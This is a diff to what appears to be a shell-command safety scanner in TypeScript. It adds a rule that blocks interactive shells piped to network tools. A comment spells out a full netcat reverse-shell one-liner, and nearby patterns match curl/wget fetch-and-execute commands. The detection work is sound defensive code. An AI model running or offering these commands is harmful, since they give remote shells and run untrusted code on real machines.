@@ -60,6 +60,13 @@ export function dataflow(ctx: Ctx): void {
       if (isNet(ctx, i)) net = true;
     }
   }
+  // `cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f`: an interactive shell wired to the network.
+  for (const idxs of byPipe.values()) {
+    const shell = idxs.find((i) => { const c = ctx.parsed.cmds[i] as SimpleCmd; return SHELLS.has(c.exe) && c.args.some((a) => /^-[a-z]{0,4}i/.test(a)); });
+    const net = idxs.find((i) => isNet(ctx, i));
+    if (shell !== undefined && net !== undefined)
+      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.shell-to-network", decision: "block", taxonomy: "unauthorized-execution/remote-code/reverse-shell", description: "interactive shell piped to a network tool", cmd: ctx.parsed.cmds[shell] as SimpleCmd });
+  }
   // `bash -c "$(curl …)"`, `eval "$(wget -O- …)"`, `python3 -c "$(curl …)"`.
   for (const c of ctx.parsed.cmds) {
     if ((SHELLS.has(c.exe) || INTERPRETERS.has(c.exe) || c.exe === "eval" || c.exe === "source" || c.exe === ".") && c.args.some((a) => /\$\((?:[^)]{0,40}\/)?(?:curl|wget|fetch)\b|`(?:curl|wget)\b|<\(\s{0,4}(?:curl|wget)\b/.test(a)))
